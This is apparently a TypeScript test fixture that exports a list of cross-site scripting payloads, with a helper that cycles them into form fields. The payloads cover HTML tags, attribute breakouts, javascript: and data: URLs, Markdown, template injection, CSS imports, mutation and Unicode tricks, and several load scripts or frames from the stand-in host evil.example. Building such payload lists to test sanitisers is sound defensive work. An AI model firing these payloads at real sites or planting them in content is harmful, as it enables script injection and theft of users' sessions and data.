/**
 * What strangers write to see whether it runs, loads or breaks out, for every place that text can be put into a page:
 * between tags, in attributes, addresses, styles, scripts, templates (OWASP, "XSS Filter Evasion"; PortSwigger's and
 * cure53's lists have more of the same kinds). What runs sets `window.__xss`; what is fetched is at evil.example.
 */
export const EVIL_HOST = 'evil.example';
const RUN = 'window.__xss=1';

export const MARKUP: readonly string[] = [
  // Between tags.
  `<script>${RUN}</script>`,
  `<script src="https://evil.example/a.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="https://evil.example/a.png">`,
  `<img srcset="https://evil.example/b.png 1x">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="https://evil.example/x.svg#a"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<iframe src="https://evil.example/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="https://evil.example/o"></object>`,
  `<embed src="https://evil.example/e">`,
  `<video src="https://evil.example/v" onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<link rel=stylesheet href="https://evil.example/l.css">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/m">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/f"><button>Send</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<xss-element data-xss onclick=${RUN}>x</xss-element>`,
  `<template><script>${RUN}</script></template>`,
  `<slot name="x" onslotchange=${RUN}></slot>`,
  // Out of an attribute.
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus=${RUN} x="`,
  `\` onmouseover=${RUN} x=\``,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `x onload=${RUN}`,
  // Addresses.
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` java\tscript:${RUN}//evil.example`,
  `data:text/html,<script>parent.__xss=1</script>`,
  `vbscript:msgbox("__xss")`,
  `blob:https://evil.example/x`,
  `//evil.example/a.png`,
  `https://evil.example/"onmouseover="${RUN}`,
  `https://evil.example/<img src=x onerror=${RUN}>`,
  `https://user:pw@evil.example/?q='><script>${RUN}</script>`,
  `mailto:a@evil.example?body=<script>${RUN}</script>`,
  // Markdown.
  `![x](https://evil.example/md.png)`,
  `[click](javascript:${RUN})`,
  `[click](https://evil.example "onmouseover=${RUN}")`,
  `<https://evil.example/auto>`,
  // Templates.
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}} <%= ${RUN} %> {% ${RUN} %}`,
  `\`+(${RUN})+\``,
  // Out of a script, JSON, a comment, a title, a style.
  `</script><script>${RUN}</script>`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `{"__proto__":{"__xss":1},"html":"<img src=x onerror=${RUN}>"}`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `</td></table><script>${RUN}</script>`,
  `background:url(https://evil.example/css)`,
  `";}@import "https://evil.example/i.css";*{color:red`,
  `<style>*{background:url(https://evil.example/s)}</style>`,
  `<div style="background-image:url(https://evil.example/d)">x</div>`,
  `expression(${RUN})`,
  // What changes its meaning when it is read a second time.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  // Signs that hide or turn others.
  `\u202e<script>${RUN}</script>\u2066`,
  `<scr\u200bipt>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
  `<img\u000bsrc=x\u000conerror=${RUN}>`,
  `\ufeff<script>${RUN}</script>\u2028${RUN}`,
  `<a href="https://evil.example/${'x'.repeat(300)}" onclick=${RUN}>long</a>`,
];

/** Words for a field: as many of the corpus as it takes, going round, so that each field gets others each time. */
export function roundOf(texts: readonly string[]): (path: string, max: number) => string {
  let next = 0;
  return (_, max) => {
    const first = texts[next++ % texts.length]!;
    let words = first.slice(0, max);
    for (let more = 1; more < texts.length; more++) {
      const longer = `${words} ${texts[(next + more - 1) % texts.length]}`;
      if (longer.length > Math.min(max, 2_000)) break;
      words = longer;
      if (max <= 300) next++;
    }
    return words;
  };
}
